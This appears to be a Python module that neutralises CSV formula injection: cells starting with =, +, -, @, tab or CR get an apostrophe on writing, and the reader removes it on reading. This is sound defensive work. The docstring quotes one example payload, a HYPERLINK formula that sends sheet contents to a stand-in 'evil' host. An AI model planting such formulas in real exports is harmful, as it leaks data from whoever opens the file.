"""CSV that is safe to open in a spreadsheet: the one writer (and reader) of the project's CSVs.

A spreadsheet runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, after a tab or a
carriage return, one that begins with those) as a formula: ``=HYPERLINK("http://evil/?"&A2)``
in an inject title leaks the sheet when the MSEL is opened. Following OWASP's rule for CSV
injection, such a cell is written with a leading apostrophe (``'=HYPERLINK(...)``), which
spreadsheets show as text. Plain numbers (``-0.25``, ``+3``) are left alone: they are not
formulas, and an analyst's negative numbers stay numbers.

The reader undoes exactly what the writer did (``restore``), so an export and import round
trip is lossless, including text that itself begins with an apostrophe. Rows end in CRLF (RFC
4180), so a cell holding a line break of either kind is quoted (with LF endings Python's csv
writer leaves a bare CR unquoted, and a reader then splits the row there).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Mapping, Sequence
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    import pandas as pd

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^[-+]?(\d+(\.\d*)?|\.\d+)([eE][-+]?\d+)?$")


def needs_quote(text: str) -> bool:
    """True if ``text`` would be read as a formula (or, after an apostrophe, be mistaken for an
    escaped one): it gets a leading apostrophe on writing."""
    if text[:1] in TRIGGERS:
        return not _NUMBER.match(text)
    return text[:1] == "'" and needs_quote(text[1:])


def neutralise(value: Any) -> Any:
    """A cell value as written: text that a spreadsheet would run gets a leading apostrophe."""
    return "'" + value if isinstance(value, str) and needs_quote(value) else value


def safe_row(row: Iterable[Any]) -> list[Any]:
    """A row for ``csv.writer`` with every cell neutralised (the workshop's exports)."""
    return [neutralise(v) for v in row]


def restore(cell: str) -> str:
    """A cell as read back: the apostrophe ``neutralise`` added is removed (and nothing else)."""
    return cell[1:] if cell[:1] == "'" and needs_quote(cell[1:]) else cell


LINE_END = "\r\n"


def dict_rows_text(fieldnames: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> str:
    """CSV text (header and rows, CRLF line ends) with every cell neutralised."""
    buf = io.StringIO(newline="")
    w = csv.DictWriter(buf, fieldnames=[neutralise(f) for f in fieldnames], lineterminator=LINE_END)
    w.writeheader()
    for row in rows:
        w.writerow({neutralise(k): neutralise(v) for k, v in row.items()})
    return buf.getvalue()


def read_dict_rows(text: str) -> tuple[list[str], list[dict[str, str]]]:
    """Header and rows of CSV text written by ``dict_rows_text`` (or a spreadsheet), restored."""
    reader = csv.reader(io.StringIO(text, newline=""))
    header = [restore(h) for h in next(reader, [])]
    rows = [{k: restore(v) for k, v in zip(header, rec, strict=False)} for rec in reader]
    return header, rows


def frame_text(df: pd.DataFrame) -> str:
    """A DataFrame as CSV text (no index) with every text cell and column name neutralised."""
    from pandas.api.types import is_bool_dtype, is_numeric_dtype

    out = df.copy()
    for col in out.columns:
        if not (is_numeric_dtype(out[col]) or is_bool_dtype(out[col])):  # text, object, category columns
            out[col] = out[col].astype(object).map(neutralise)
    out.columns = [neutralise(str(c)) for c in out.columns]
    return out.to_csv(index=False, lineterminator=LINE_END)
